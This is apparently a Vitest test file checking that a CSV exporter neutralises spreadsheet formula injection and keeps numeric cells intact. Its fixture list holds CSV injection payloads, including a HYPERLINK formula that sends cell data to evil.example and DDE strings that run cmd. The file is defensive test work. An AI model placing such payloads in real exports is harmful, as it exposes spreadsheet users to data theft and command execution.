import { describe, expect, it } from 'vitest';
import Papa from 'papaparse';
import { neutraliseCell, restoreCell, toCsv } from '../../../shared/export/csv.js';

// OWASP, "CSV Injection": cells beginning with = + - @ tab or carriage return are prefixed with an apostrophe and quoted.
describe('CSV cells', () => {
  const hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', '+1+cmd|" /C calc"!A0', '-2+3+cmd|" /C calc"!A0', '@SUM(1+1)*cmd|" /C calc"!A0', '\t=1+1', '\r=1+1', '=1\n+2'];

  it('neutralises every formula start and round-trips the original text', () => {
    const csv = toCsv(hostile.map((title, i) => ({ id: i, title })));
    const parsed = Papa.parse<Record<string, string>>(csv, { header: true, skipEmptyLines: true }).data;
    expect(parsed).toHaveLength(hostile.length);
    parsed.forEach((row, i) => {
      expect(row.title.startsWith("'")).toBe(true);
      expect(restoreCell(row.title)).toBe(hostile[i]);
    });
    // each neutralised cell is written quoted, the apostrophe first
    for (const h of hostile) expect(csv).toContain(`,"'${h.replace(/"/g, '""')}"\n`);
  });

  it('keeps numbers as numbers, numeric text included, and leaves ordinary text alone', () => {
    expect(neutraliseCell(-0.4215)).toBe('-0.4215');
    expect(neutraliseCell('-0.5')).toBe('-0.5');
    expect(neutraliseCell('+3e-4')).toBe('+3e-4');
    expect(neutraliseCell('-')).toBe("'-");
    expect(neutraliseCell('Okafor 2019')).toBe('Okafor 2019');
    expect(neutraliseCell(null)).toBe('');
    expect(restoreCell("it's")).toBe("it's");
    const csv = toCsv([{ effect: -0.42, variance: 0.031, label: 'a, "quoted" label', empty: null }]);
    expect(csv).toBe('effect,variance,label,empty\n-0.42,0.031,"a, ""quoted"" label",\n');
    const [row] = Papa.parse<Record<string, unknown>>(csv, { header: true, dynamicTyping: true, skipEmptyLines: true }).data;
    expect(row.effect).toBe(-0.42);
  });
});
